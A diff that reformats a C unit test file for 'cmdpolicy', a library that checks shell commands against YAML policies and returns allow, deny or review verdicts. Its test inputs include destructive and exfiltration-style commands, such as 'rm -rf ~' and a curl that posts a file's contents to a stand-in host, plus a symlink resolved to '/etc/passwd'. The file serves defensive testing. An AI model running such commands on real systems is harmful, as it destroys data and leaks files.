@@ -4,22 +4,27 @@
 
 #include "test_decide_fixture.h"
 
-static const char small_policy[] = "cmdpolicy: 1\n"
-                                   "commands: {t: {options: {-o: write}, operands: [read*]}, sh: {syntax: posix, options: {-c: flag}, operands: [value*], "
-                                   "cases: [{when: {options: -c}, operands: [script, rest?]}]}}\n"
-                                   "rules: {t: {verdict: allow, reason: fine}, t no: {verdict: deny, reason: never, suggest: t yes, risk: high}, sh: by-effects}\n"
-                                   "effects: {read: {'/etc/**': deny, default: allow}, write: review}\n";
+static const char small_policy[] =
+    "cmdpolicy: 1\n"
+    "commands: {t: {options: {-o: write}, operands: [read*]}, sh: {syntax: posix, options: {-c: flag}, operands: [value*], "
+    "cases: [{when: {options: -c}, operands: [script, rest?]}]}}\n"
+    "rules: {t: {verdict: allow, reason: fine}, t no: {verdict: deny, reason: never, suggest: t yes, risk: high}, sh: by-effects}\n"
+    "effects: {read: {'/etc/**': deny, default: allow}, write: review}\n";
 
 static cmdpolicy_policy *build_small(void) {
     cmdpolicy_builder *b = cmdpolicy_builder_new();
     cmdpolicy_policy *policy = NULL;
-    ck_assert_int_eq(cmdpolicy_builder_add_yaml(b, CMDPOLICY_LAYER_USER, "small.yaml", small_policy, sizeof small_policy - 1), CMDPOLICY_OK);
+    ck_assert_int_eq(cmdpolicy_builder_add_yaml(b, CMDPOLICY_LAYER_USER, "small.yaml", small_policy,
+                                                sizeof small_policy - 1),
+                     CMDPOLICY_OK);
     ck_assert_int_eq(cmdpolicy_builder_build(b, &policy), CMDPOLICY_OK);
     cmdpolicy_builder_free(b);
     return policy;
 }
 
-static int is(cmdpolicy_string s, const char *text) { return s.size == strlen(text) && memcmp(s.data, text, s.size) == 0; }
+static int is(cmdpolicy_string s, const char *text) {
+    return s.size == strlen(text) && memcmp(s.data, text, s.size) == 0;
+}
 
 START_TEST(nothing_given)
     {
@@ -44,7 +49,8 @@ START_TEST(nothing_given)
         ck_assert_int_eq(cmdpolicy_policy_prepare(NULL), CMDPOLICY_ERR_ARGUMENT);
         ck_assert_int_eq(cmdpolicy_policy_digest(NULL, &s), CMDPOLICY_ERR_ARGUMENT);
         ck_assert_int_eq(cmdpolicy_request_set_shell(NULL, 0, "x", 1), CMDPOLICY_ERR_ARGUMENT);
-        ck_assert_int_eq(cmdpolicy_request_set_argv(NULL, 1, (const char *const[]){"x"}, NULL), CMDPOLICY_ERR_ARGUMENT);
+        ck_assert_int_eq(cmdpolicy_request_set_argv(NULL, 1, (const char *const[]){"x"}, NULL),
+                         CMDPOLICY_ERR_ARGUMENT);
         ck_assert_int_eq(cmdpolicy_request_set_cwd(NULL, "/", 1), CMDPOLICY_ERR_ARGUMENT);
         ck_assert_int_eq(cmdpolicy_request_set_home(NULL, "/", 1), CMDPOLICY_ERR_ARGUMENT);
         ck_assert_int_eq(cmdpolicy_request_add_workspace(NULL, "/", 1, 0), CMDPOLICY_ERR_ARGUMENT);
@@ -63,7 +69,8 @@ START_TEST(nothing_given)
         ck_assert_str_eq(cmdpolicy_status_name(CMDPOLICY_OK), "ok");
         for (cmdpolicy_status status = 5; status > -20; status--)
             ck_assert_ptr_nonnull(cmdpolicy_status_name(status));
-        ck_assert_uint_eq(cmdpolicy_version(), (uint32_t)CMDPOLICY_VERSION_MAJOR << 16 | CMDPOLICY_VERSION_MINOR << 8 | CMDPOLICY_VERSION_PATCH);
+        ck_assert_uint_eq(cmdpolicy_version(), (uint32_t)CMDPOLICY_VERSION_MAJOR << 16 |
+                                                   CMDPOLICY_VERSION_MINOR << 8 | CMDPOLICY_VERSION_PATCH);
     }
 END_TEST
 
@@ -74,8 +81,11 @@ START_TEST(static_decisions)
         cmdpolicy_request *empty = cmdpolicy_request_new(policy), *invalid = cmdpolicy_request_new(policy);
         ck_assert_int_eq(cmdpolicy_request_set_shell(invalid, CMDPOLICY_DIALECT_BASH, "t", 1), CMDPOLICY_OK);
         ck_assert_int_eq(cmdpolicy_request_set_cwd(invalid, "relative", 8), CMDPOLICY_ERR_ARGUMENT);
-        cmdpolicy_decision *all[] = {cmdpolicy_check(NULL, NULL), cmdpolicy_check(policy, NULL), cmdpolicy_check(NULL, empty), cmdpolicy_check(policy, empty),
-                                     cmdpolicy_check(policy, invalid), cmdpolicy_check_shell(NULL, "t", 1), cmdpolicy_check_shell(policy, NULL, 3)};
+        cmdpolicy_decision *all[] = {
+            cmdpolicy_check(NULL, NULL),           cmdpolicy_check(policy, NULL),
+            cmdpolicy_check(NULL, empty),          cmdpolicy_check(policy, empty),
+            cmdpolicy_check(policy, invalid),      cmdpolicy_check_shell(NULL, "t", 1),
+            cmdpolicy_check_shell(policy, NULL, 3)};
         for (size_t i = 0; i < sizeof all / sizeof all[0]; i++) {
             cmdpolicy_reason r = {.struct_size = sizeof r};
             cmdpolicy_call c = {.struct_size = sizeof c};
@@ -87,7 +97,8 @@ START_TEST(static_decisions)
             ck_assert_int_eq(cmdpolicy_decision_status(all[i]), CMDPOLICY_ERR_ARGUMENT);
             ck_assert_uint_eq(cmdpolicy_decision_reason_count(all[i]), 1);
             ck_assert_int_eq(cmdpolicy_decision_reason(all[i], 0, &r), CMDPOLICY_OK);
-            ck_assert(is(r.code, "error") && is(r.message, "wrong argument") && r.call == -1 && r.verdict == CMDPOLICY_DENY);
+            ck_assert(is(r.code, "error") && is(r.message, "wrong argument") && r.call == -1 &&
+                      r.verdict == CMDPOLICY_DENY);
             ck_assert_int_eq(cmdpolicy_decision_reason(all[i], 1, &r), CMDPOLICY_ERR_RANGE);
             ck_assert_int_eq(cmdpolicy_decision_call(all[i], 0, &c), CMDPOLICY_ERR_RANGE);
             ck_assert_int_eq(cmdpolicy_decision_word(all[i], 0, 0, &w), CMDPOLICY_ERR_RANGE);
@@ -131,7 +142,8 @@ START_TEST(invalid_requests)
             default: status = cmdpolicy_request_set_shell(r, CMDPOLICY_DIALECT_BASH, "t", SIZE_MAX / 2);
             }
             ck_assert_msg(status == CMDPOLICY_ERR_ARGUMENT, "%d: %s", i, cmdpolicy_status_name(status));
-            ck_assert_int_eq(cmdpolicy_request_set_shell(r, CMDPOLICY_DIALECT_BASH, "t", 1), CMDPOLICY_OK); /* heals nothing */
+            ck_assert_int_eq(cmdpolicy_request_set_shell(r, CMDPOLICY_DIALECT_BASH, "t", 1),
+                             CMDPOLICY_OK); /* heals nothing */
             cmdpolicy_decision *d = cmdpolicy_check(policy, r);
             ck_assert_int_eq(cmdpolicy_decision_status(d), CMDPOLICY_ERR_ARGUMENT);
             cmdpolicy_decision_free(d);
@@ -160,7 +172,10 @@ START_TEST(struct_sizes)
             unsigned char bytes[512];
         } u;
         for (int what = 0; what < 4; what++) {
-            const size_t full = what == 0 ? sizeof u.reason : what == 1 ? sizeof u.call : what == 2 ? sizeof u.word : sizeof u.effect;
+            const size_t full = what == 0   ? sizeof u.reason
+                                : what == 1 ? sizeof u.call
+                                : what == 2 ? sizeof u.word
+                                            : sizeof u.effect;
             for (uint32_t size = 0; size <= full + 64; size++) {
                 memset(&u, 0xa5, sizeof u);
                 u.struct_size = size;
@@ -199,8 +214,12 @@ START_TEST(builder_errors)
         cmdpolicy_policy *policy = (cmdpolicy_policy *)(uintptr_t)8;
         static const char wrong[] = "cmdpolicy: 1\nrulse: {t: allow}\nrules: {t: perhaps}\n";
         ck_assert_int_eq(cmdpolicy_builder_build(b, NULL), CMDPOLICY_ERR_ARGUMENT);
-        ck_assert_int_eq(cmdpolicy_builder_add_yaml(b, CMDPOLICY_LAYER_USER, "wrong.yaml", wrong, sizeof wrong - 1), CMDPOLICY_ERR_POLICY);
-        ck_assert_int_eq(cmdpolicy_builder_add_yaml(b, CMDPOLICY_LAYER_USER, "small.yaml", small_policy, sizeof small_policy - 1), CMDPOLICY_OK);
+        ck_assert_int_eq(
+            cmdpolicy_builder_add_yaml(b, CMDPOLICY_LAYER_USER, "wrong.yaml", wrong, sizeof wrong - 1),
+            CMDPOLICY_ERR_POLICY);
+        ck_assert_int_eq(cmdpolicy_builder_add_yaml(b, CMDPOLICY_LAYER_USER, "small.yaml", small_policy,
+                                                    sizeof small_policy - 1),
+                         CMDPOLICY_OK);
         ck_assert_int_eq(cmdpolicy_builder_build(b, &policy), CMDPOLICY_ERR_POLICY);
         ck_assert_ptr_null(policy);
         ck_assert_uint_eq(cmdpolicy_builder_error_count(b), 2);
@@ -216,8 +235,9 @@ START_TEST(builder_errors)
             for (size_t i = size < sizeof u.error ? size : sizeof u.error; i < sizeof u; i++)
                 ck_assert(i < 4 || u.bytes[i] == 0xa5);
             if (size >= sizeof u.error)
-                ck_assert(u.error.line == 2 && u.error.column == 1 && is(u.error.code, "unknown-key") && is(u.error.file, "wrong.yaml") &&
-                          u.error.layer == CMDPOLICY_LAYER_USER && !u.error.is_warning && u.error.status == CMDPOLICY_ERR_POLICY);
+                ck_assert(u.error.line == 2 && u.error.column == 1 && is(u.error.code, "unknown-key") &&
+                          is(u.error.file, "wrong.yaml") && u.error.layer == CMDPOLICY_LAYER_USER &&
+                          !u.error.is_warning && u.error.status == CMDPOLICY_ERR_POLICY);
         }
         cmdpolicy_error e = {.struct_size = sizeof e};
         ck_assert_int_eq(cmdpolicy_builder_error(b, 2, &e), CMDPOLICY_ERR_RANGE);
@@ -227,22 +247,32 @@ START_TEST(builder_errors)
             int what;
             cmdpolicy_status status;
             const char *code;
-        } cases[] = {{0, CMDPOLICY_ERR_ARGUMENT, ""}, {1, CMDPOLICY_ERR_ARGUMENT, ""}, {2, CMDPOLICY_ERR_ARGUMENT, "unknown-profile"},
-                     {3, CMDPOLICY_ERR_IO, "unreadable"}, {4, CMDPOLICY_ERR_POLICY, "image-damaged"}, {5, CMDPOLICY_ERR_IO, "unreadable"}, {6, CMDPOLICY_ERR_ARGUMENT, ""}};
+        } cases[] = {{0, CMDPOLICY_ERR_ARGUMENT, ""},
+                     {1, CMDPOLICY_ERR_ARGUMENT, ""},
+                     {2, CMDPOLICY_ERR_ARGUMENT, "unknown-profile"},
+                     {3, CMDPOLICY_ERR_IO, "unreadable"},
+                     {4, CMDPOLICY_ERR_POLICY, "image-damaged"},
+                     {5, CMDPOLICY_ERR_IO, "unreadable"},
+                     {6, CMDPOLICY_ERR_ARGUMENT, ""}};
         for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
             cmdpolicy_status status = CMDPOLICY_OK;
             b = cmdpolicy_builder_new();
             switch (cases[i].what) {
-            case 0: status = cmdpolicy_builder_add_yaml(b, 5, "x", small_policy, sizeof small_policy - 1); break;
+            case 0:
+                status = cmdpolicy_builder_add_yaml(b, 5, "x", small_policy, sizeof small_policy - 1);
+                break;
             case 1: status = cmdpolicy_builder_set_limit(b, "speed", 1); break;
             case 2: status = cmdpolicy_builder_add_builtin(b, "core"); break;
-            case 3: status = cmdpolicy_builder_add_file(b, CMDPOLICY_LAYER_USER, "/nowhere/at/all.yaml"); break;
+            case 3:
+                status = cmdpolicy_builder_add_file(b, CMDPOLICY_LAYER_USER, "/nowhere/at/all.yaml");
+                break;
             case 4: status = cmdpolicy_builder_add_image(b, CMDPOLICY_LAYER_USER, "x", "cmdpolicy", 9); break;
             case 5: status = cmdpolicy_builder_add_file(b, CMDPOLICY_LAYER_USER, "/"); break;
             default: status = cmdpolicy_builder_add_yaml(b, CMDPOLICY_LAYER_USER, "x", NULL, 4);
             }
             ck_assert_msg(status == cases[i].status, "%zu: %s", i, cmdpolicy_status_name(status));
-            ck_assert_int_eq(cmdpolicy_builder_error(b, 0, &e), *cases[i].code ? CMDPOLICY_OK : CMDPOLICY_ERR_RANGE);
+            ck_assert_int_eq(cmdpolicy_builder_error(b, 0, &e),
+                             *cases[i].code ? CMDPOLICY_OK : CMDPOLICY_ERR_RANGE);
             if (*cases[i].code)
                 ck_assert(is(e.code, cases[i].code) && e.status == cases[i].status);
             ck_assert_int_ne(cmdpolicy_builder_build(b, &policy), CMDPOLICY_OK); /* there is no half policy */
@@ -258,7 +288,8 @@ START_TEST(empty_policy)
         cmdpolicy_builder *b = cmdpolicy_builder_new();
         cmdpolicy_policy *policy = NULL, *second = NULL;
         ck_assert_int_eq(cmdpolicy_builder_build(b, &policy), CMDPOLICY_OK);
-        ck_assert_int_eq(cmdpolicy_builder_build(b, &second), CMDPOLICY_ERR_ARGUMENT); /* a builder makes one */
+        ck_assert_int_eq(cmdpolicy_builder_build(b, &second),
+                         CMDPOLICY_ERR_ARGUMENT); /* a builder makes one */
         ck_assert_ptr_null(second);
         cmdpolicy_builder_free(b);
         ck_assert_int_eq(verdict_here(policy, "ls"), CMDPOLICY_REVIEW);
@@ -293,13 +324,16 @@ START_TEST(decision_outlives_all)
         ck_assert_int_eq(cmdpolicy_decision_render(d, "json", &json), CMDPOLICY_OK);
         ck_assert_int_eq(cmdpolicy_decision_render(d, "json", &again), CMDPOLICY_OK);
         ck_assert_ptr_eq(json.data, again.data); /* made on first use and kept */
-        ck_assert(strstr(json.data, "\"value\"") && strstr(json.data, "/home/u/x") && strstr(json.data, "/etc/value") && strstr(json.data, "never") && strstr(json.data, "small.yaml"));
+        ck_assert(strstr(json.data, "\"value\"") && strstr(json.data, "/home/u/x") &&
+                  strstr(json.data, "/etc/value") && strstr(json.data, "never") &&
+                  strstr(json.data, "small.yaml"));
         cmdpolicy_word w = {.struct_size = sizeof w};
         ck_assert_int_eq(cmdpolicy_decision_word(d, 0, 1, &w), CMDPOLICY_OK);
         ck_assert(is(w.value, "value") && w.exact == 1);
         cmdpolicy_call c = {.struct_size = sizeof c};
         ck_assert_int_eq(cmdpolicy_decision_call(d, 2, &c), CMDPOLICY_OK);
-        ck_assert(is(c.program, "t") && c.parent == 1 && is(c.domain, "local") && c.verdict == CMDPOLICY_DENY);
+        ck_assert(is(c.program, "t") && c.parent == 1 && is(c.domain, "local") &&
+                  c.verdict == CMDPOLICY_DENY);
         cmdpolicy_decision_free(d);
     }
 END_TEST
@@ -337,7 +371,8 @@ START_TEST(requests_are_reused)
         cmdpolicy_request_reset(r);
         cmdpolicy_request_set_shell(r, CMDPOLICY_DIALECT_BASH, "t x", 3);
         d = cmdpolicy_check(policy, r);
-        ck_assert_int_eq(cmdpolicy_decision_verdict(d), CMDPOLICY_REVIEW); /* it may be in /etc: the directory isn't known any more */
+        ck_assert_int_eq(cmdpolicy_decision_verdict(d),
+                         CMDPOLICY_REVIEW); /* it may be in /etc: the directory isn't known any more */
         cmdpolicy_decision_free(d);
         cmdpolicy_request_free(r);
         cmdpolicy_policy_free(policy);
@@ -365,13 +400,20 @@ START_TEST(limits)
             for (int by_yaml = 0; by_yaml < 3; by_yaml++) {
                 cmdpolicy_builder *b = cmdpolicy_builder_new();
                 cmdpolicy_policy *policy = NULL;
-                cmdpolicy_builder_add_yaml(b, CMDPOLICY_LAYER_USER, "small.yaml", small_policy, sizeof small_policy - 1);
+                cmdpolicy_builder_add_yaml(b, CMDPOLICY_LAYER_USER, "small.yaml", small_policy,
+                                           sizeof small_policy - 1);
                 char text[200];
-                int n = snprintf(text, sizeof text, "cmdpolicy: 1\ndefaults: {%s: %llu}\n", cases[i].name, (unsigned long long)cases[i].most);
+                int n = snprintf(text, sizeof text, "cmdpolicy: 1\ndefaults: {%s: %llu}\n", cases[i].name,
+                                 (unsigned long long)cases[i].most);
                 if (by_yaml && cases[i].most > 0)
-                    ck_assert_int_eq(cmdpolicy_builder_add_yaml(b, by_yaml == 1 ? CMDPOLICY_LAYER_USER : CMDPOLICY_LAYER_REQUIREMENTS, "limit.yaml", text, (size_t)n), CMDPOLICY_OK);
+                    ck_assert_int_eq(cmdpolicy_builder_add_yaml(b,
+                                                                by_yaml == 1 ? CMDPOLICY_LAYER_USER
+                                                                             : CMDPOLICY_LAYER_REQUIREMENTS,
+                                                                "limit.yaml", text, (size_t)n),
+                                     CMDPOLICY_OK);
                 else
-                    ck_assert_int_eq(cmdpolicy_builder_set_limit(b, cases[i].name, cases[i].most), CMDPOLICY_OK);
+                    ck_assert_int_eq(cmdpolicy_builder_set_limit(b, cases[i].name, cases[i].most),
+                                     CMDPOLICY_OK);
                 ck_assert_int_eq(cmdpolicy_builder_build(b, &policy), CMDPOLICY_OK);
                 cmdpolicy_builder_free(b);
                 cmdpolicy_request *r = cmdpolicy_request_new(policy);
@@ -381,13 +423,15 @@ START_TEST(limits)
                 cmdpolicy_request_set_resolver(r, never_resolves, NULL);
                 cmdpolicy_decision *d = cmdpolicy_check(policy, r);
                 ck_assert_int_eq(cmdpolicy_decision_status(d), CMDPOLICY_OK);
-                ck_assert_msg(cmdpolicy_decision_verdict(d) == CMDPOLICY_DENY, "%s: %s", cases[i].name, verdict_name(cmdpolicy_decision_verdict(d)));
+                ck_assert_msg(cmdpolicy_decision_verdict(d) == CMDPOLICY_DENY, "%s: %s", cases[i].name,
+                              verdict_name(cmdpolicy_decision_verdict(d)));
                 int found = 0;
                 cmdpolicy_reason reason = {.struct_size = sizeof reason};
                 for (size_t k = 0; cmdpolicy_decision_reason(d, k, &reason) == CMDPOLICY_OK; k++) {
                     char message[300];
                     snprintf(message, sizeof message, "%.*s", (int)reason.message.size, reason.message.data);
-                    found |= is(reason.code, "limit") && strstr(message, cases[i].name) != NULL && reason.verdict == CMDPOLICY_DENY;
+                    found |= is(reason.code, "limit") && strstr(message, cases[i].name) != NULL &&
+                             reason.verdict == CMDPOLICY_DENY;
                 }
                 if (!found)
                     print_decision(d);
@@ -401,15 +445,17 @@ START_TEST(limits)
     }
 END_TEST
 int64_t never_resolves(void *user, const char *path, size_t size, char *buffer, size_t room);
-int64_t never_resolves(void *user, const char *path, size_t size, char *buffer, size_t room) {
-    (void)user, (void)path, (void)size, (void)buffer, (void)room;
+int64_t never_resolves(void *user, const char *path, size_t size, char *room_for_it, size_t room) {
+    (void)user, (void)path, (void)size, (void)room_for_it, (void)room;
     return -1;
 }
 
 /* What was denied before the limit stays denied where the limit's own verdict is a review. */
 START_TEST(a_limit_lifts_nothing)
     {
-        const char *layers[LAYERS] = {[BUILTIN] = "commands: {t: {operands: [value*]}}\nrules: {t: allow, t no: deny}\ndefaults: {calls: {most: 3, verdict: review}}\n"};
+        const char *layers[LAYERS] = {
+            [BUILTIN] =
+                "commands: {t: {operands: [value*]}}\nrules: {t: allow, t no: deny}\ndefaults: {calls: {most: 3, verdict: review}}\n"};
         cmdpolicy_policy *policy = policy_of_layers(layers);
         ck_assert_int_eq(verdict_here(policy, "t; t; t"), CMDPOLICY_ALLOW);
         ck_assert_int_eq(verdict_here(policy, "t; t; t; t"), CMDPOLICY_REVIEW);
@@ -422,12 +468,12 @@ typedef struct asked {
     char paths[64][64];
     int count;
 } asked;
-static int64_t resolve(void *user, const char *path, size_t size, char *buffer, size_t room) {
+static int64_t resolve(void *user, const char *path, size_t size, char *room_for_it, size_t room) {
     asked *a = user;
     ck_assert_int_lt(a->count, 64);
     snprintf(a->paths[a->count++], 64, "%.*s", (int)size, path);
     if (size == 10 && memcmp(path, "/work/link", 10) == 0 && room >= 11) {
-        memcpy(buffer, "/etc/passwd", 11);
+        memcpy(room_for_it, "/etc/passwd", 11);
         return 11;
     }
     return size == 8 ? INT64_MAX : -1; /* longer than the room: not known */
@@ -467,7 +513,8 @@ START_TEST(hostile_images)
         cmdpolicy_builder *b = cmdpolicy_builder_new();
         uint64_t s = 5;
         static unsigned char bytes[4096] __attribute__((aligned(8)));
-        ck_assert_int_eq(cmdpolicy_builder_add_image_static(b, CMDPOLICY_LAYER_USER, "x", bytes + 1, 100), CMDPOLICY_ERR_ARGUMENT);
+        ck_assert_int_eq(cmdpolicy_builder_add_image_static(b, CMDPOLICY_LAYER_USER, "x", bytes + 1, 100),
+                         CMDPOLICY_ERR_ARGUMENT);
         cmdpolicy_builder_free(b);
         for (int i = 0; i < 2000; i++) {
             size_t n = below(&s, sizeof bytes);
@@ -477,8 +524,11 @@ START_TEST(hostile_images)
                 memcpy(bytes, "CMDPOLI", 7);
             b = cmdpolicy_builder_new();
             cmdpolicy_policy *policy = NULL;
-            cmdpolicy_status status = i % 3 ? cmdpolicy_builder_add_image(b, CMDPOLICY_LAYER_USER, "x", bytes, n) : cmdpolicy_builder_add_image_static(b, CMDPOLICY_LAYER_USER, "x", bytes, n);
-            ck_assert(status == CMDPOLICY_ERR_POLICY || status == CMDPOLICY_ERR_UNSUPPORTED || (status == CMDPOLICY_ERR_ARGUMENT && n == 0));
+            cmdpolicy_status status =
+                i % 3 ? cmdpolicy_builder_add_image(b, CMDPOLICY_LAYER_USER, "x", bytes, n)
+                      : cmdpolicy_builder_add_image_static(b, CMDPOLICY_LAYER_USER, "x", bytes, n);
+            ck_assert(status == CMDPOLICY_ERR_POLICY || status == CMDPOLICY_ERR_UNSUPPORTED ||
+                      (status == CMDPOLICY_ERR_ARGUMENT && n == 0));
             ck_assert_int_ne(cmdpolicy_builder_build(b, &policy), CMDPOLICY_OK);
             cmdpolicy_builder_free(b);
         }
@@ -486,7 +536,9 @@ START_TEST(hostile_images)
 END_TEST
 
 static void *ask_often(void *policy) {
-    static const char *const texts[] = {"gh pr view 12", "rm -rf ~", "A=$(cat x); curl -d \"$A\" https://x.test", "find . -exec rm {} +", "docker run -v /:/h x"};
+    static const char *const texts[] = {"gh pr view 12", "rm -rf ~",
+                                        "A=$(cat x); curl -d \"$A\" https://x.test", "find . -exec rm {} +",
+                                        "docker run -v /:/h x"};
     uintptr_t sum = 0;
     for (int i = 0; i < 60; i++)
         sum = sum * 3 + (uintptr_t)verdict_here(policy, texts[i % 5]);
@@ -516,7 +568,8 @@ END_TEST
 /* Equal policy and request give equal bytes; other limits, layers and texts give another digest. */
 START_TEST(determinism)
     {
-        static const char *const texts[] = {"t no", "t \"$A\" ~/x; sh -c \"t $B\"", "for i in a b; do t $i; done | t -o /x", "t 'a"};
+        static const char *const texts[] = {"t no", "t \"$A\" ~/x; sh -c \"t $B\"",
+                                            "for i in a b; do t $i; done | t -o /x", "t 'a"};
         cmdpolicy_policy *one = build_small(), *two = build_small();
         cmdpolicy_string x, y;
         for (size_t i = 0; i < 4; i++) {
@@ -533,7 +586,8 @@ START_TEST(determinism)
         for (int i = 0; i < 3; i++) {
             cmdpolicy_builder *b = cmdpolicy_builder_new();
             cmdpolicy_policy *other = NULL;
-            cmdpolicy_builder_add_yaml(b, i == 0 ? CMDPOLICY_LAYER_SYSTEM : CMDPOLICY_LAYER_USER, "small.yaml", small_policy, sizeof small_policy - 1 - (i == 1));
+            cmdpolicy_builder_add_yaml(b, i == 0 ? CMDPOLICY_LAYER_SYSTEM : CMDPOLICY_LAYER_USER,
+                                       "small.yaml", small_policy, sizeof small_policy - 1 - (i == 1));
             if (i == 2)
                 cmdpolicy_builder_set_limit(b, "depth", 7);
             ck_assert_int_eq(cmdpolicy_builder_build(b, &other), CMDPOLICY_OK);
